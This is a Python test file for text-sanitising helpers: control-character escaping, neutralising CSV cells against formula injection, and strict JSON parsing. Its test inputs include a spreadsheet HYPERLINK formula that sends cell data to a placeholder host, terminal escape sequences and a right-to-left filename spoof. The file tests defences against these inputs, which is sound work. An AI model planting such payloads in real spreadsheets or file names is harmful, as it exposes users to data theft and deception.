import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from msc_edge.text import csv_cell, csv_text, harmless_json, many, one_line, percent, size, strict_json, valid_text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain [bold]x[/bold] C:\\a", "plain [bold]x[/bold] C:\\a"),
        ("Prüfling 日本 🙂", "Prüfling 日本 🙂"),
        ("a\nb\r\tc", "a\\nb\\r\\tc"),
        ("\x1b[31mred\x07", "\\x1b[31mred\\x07"),
        ("\udcff.png", "\\udcff.png"),
        ("right to left: \u202egnp.exe", "right to left: \\u202egnp.exe"),
    ],
)
def test_control_characters_become_escapes(text, expected):
    assert one_line(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Prüfling 日本 🙂.png", "Prüfling 日本 🙂.png"),
        ("line\nend.png", "line\nend.png"),
        (b"a\xff.png".decode("utf-8", "surrogateescape"), "a\\xff.png"),
        (b"\xff\xfe\x80.png".decode("utf-8", "surrogateescape"), "\\xff\\xfe\\x80.png"),
        ("half a pair \ud83d.png", "half a pair \\ud83d.png"),
        # A process with the locale C decodes names as ASCII.
        ("Prüfling 日本.png".encode().decode("ascii", "surrogateescape"), "Prüfling 日本.png"),
    ],
)
def test_only_bytes_that_are_not_text_become_escapes(text, expected):
    assert valid_text(text) == expected
    assert valid_text(valid_text(text)) == valid_text(text)
    valid_text(text).encode()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("good/1.png", "good/1.png"),
        ("a=b, -1 + 'c'", "a=b, -1 + 'c'"),
        ("'quoted'.png", "'quoted'.png"),
        ("全角　空白.png", "全角　空白.png"),
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+1", "'+1"),
        ("-1.png", "'-1.png"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("''-1", "'" + "''-1"),
        ('"x"', r"""'"\"x\"" """.strip()),
        ("'\"x", r"""'"'\"x" """.strip()),
        ("\x1b[2J", r"""'"\u001b[2J" """.strip()),
        ("a\x9b\u202e\x00.png", r"""'"a\u009b\u202e\u0000.png" """.strip()),
    ],
)
def test_a_csv_cell_is_harmless_and_gives_its_text_back(text, cell):
    assert csv_cell(text) == cell
    assert csv_text(cell) == text


@given(st.text(st.sampled_from("'\"=+-@\t\r\n\x1b\x9b\u202e\\＝ax")) | st.text())
def test_any_text_comes_back_from_its_csv_cell(text):
    cell = csv_cell(text)
    assert csv_text(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not any(character in cell for character in "\x1b\x9b\u202e")


@pytest.mark.parametrize("cell", ["'\"", "'\"a", '\'"a" b', '\'"\\x"'])
def test_a_cell_that_was_edited_is_refused(cell):
    with pytest.raises(ValueError, match=r".+"):
        csv_text(cell)


@pytest.mark.parametrize("value", ["\x7f\x85\u2028\u202e", {"a\x9b": ["\x1b", "ü 🙂"]}])
def test_harmless_json_is_the_same_value(value):
    text = harmless_json(json.dumps(value, ensure_ascii=False, indent=2))
    assert json.loads(text) == value
    assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    ("share", "expected"),
    [
        (0.0, "0 %"),
        (0.01, "1 %"),
        (0.05, "5 %"),
        (1 / 13, "7.7 %"),
        (0.0123, "1.2 %"),
        (0.001, "0.1 %"),
        (0.00042, "0.042 %"),
        (0.996, "99.6 %"),
        (0.9996, "100 %"),
        (1.0, "100 %"),
        (0.1, "10 %"),
    ],
)
def test_percent(share, expected):
    assert percent(share) == expected


@pytest.mark.parametrize(
    ("count", "expected"), [(0, "0 bytes"), (999, "999 bytes"), (1000, "1.0 kB"), (46_500_000, "46.5 MB")]
)
def test_size(count, expected):
    assert size(count) == expected


def test_many():
    assert [many(count, "image") for count in (0, 1, 2)] == ["0 images", "1 image", "2 images"]
    assert many(2, "query", "queries") == "2 queries"


@pytest.mark.parametrize("text", ["NaN", "[Infinity]", '{"a": -Infinity}', "[" * 100_000, "{", b"\xff", ""])
def test_json_that_rfc_8259_does_not_define_is_refused(text: str | bytes) -> None:
    with pytest.raises(ValueError, match=r"."):
        strict_json(text)


def test_json_text_gives_its_value() -> None:
    assert strict_json(b'{"a": [1, 2.5, null, "\xc3\xbc"]}') == {"a": [1, 2.5, None, "ü"]}
